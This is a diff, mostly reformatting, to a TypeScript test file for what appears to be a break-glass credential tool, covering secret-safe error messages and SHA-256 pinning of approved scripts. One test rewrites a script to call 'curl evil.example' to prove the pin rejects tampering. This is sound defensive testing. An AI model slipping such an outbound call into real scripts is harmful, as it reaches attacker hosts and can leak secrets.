@@ -84,7 +84,15 @@ const request = (value: string): Request => ({
   apiVersion: 'breakglass.dev/v1',
   kind: 'Request',
   metadata: { id: 'inc-1-db', requester: 'dba@vendor.example', created: '2026-11-21T02:00:00Z' },
-  spec: { reason: 'INC-1: orders', resource: 'orders-db', privilege: 'read-write', duration: '30m', network: 'direct', recipient: '0123456789ABCDEF0123456789ABCDEF01234567', command: { name: 'db-password', inputs: { database: value } } },
+  spec: {
+    reason: 'INC-1: orders',
+    resource: 'orders-db',
+    privilege: 'read-write',
+    duration: '30m',
+    network: 'direct',
+    recipient: '0123456789ABCDEF0123456789ABCDEF01234567',
+    command: { name: 'db-password', inputs: { database: value } },
+  },
 });
 
 describe('command inputs that a shell would act on', () => {
@@ -162,7 +170,7 @@ describe('running an approved command', () => {
   });
 
   it('never echoes stderr of a failing command, which may hold the secret', async () => {
-    const err = (await mintCommand(run({}, { run: ["leaky-fail.sh"], inputs: {} })).catch((e: Error) => e)) as Error;
+    const err = (await mintCommand(run({}, { run: ['leaky-fail.sh'], inputs: {} })).catch((e: Error) => e)) as Error;
     expect(err.message).toBe('command db-password exited with code 3 (stderr: 16 bytes, not shown: it may hold secrets)');
     expect(err.message).not.toContain('s3cr3t');
   });
@@ -179,7 +187,9 @@ describe('running an approved command', () => {
 
   it('checks the pinned SHA-256 before every run', async () => {
     const p = await script('pinned.sh', 'echo token-1');
-    const pin = createHash('sha256').update(await (await import('node:fs/promises')).readFile(p)).digest('hex');
+    const pin = createHash('sha256')
+      .update(await (await import('node:fs/promises')).readFile(p))
+      .digest('hex');
     expect((await mintCommand(run({}, { run: ['pinned.sh'], inputs: {}, sha256: pin }))).toString()).toBe('token-1\n');
     await script('pinned.sh', 'echo token-1; curl evil.example');
     await expect(mintCommand(run({}, { run: ['pinned.sh'], inputs: {}, sha256: pin }))).rejects.toMatchObject({ code: 'COMMAND_PIN' });
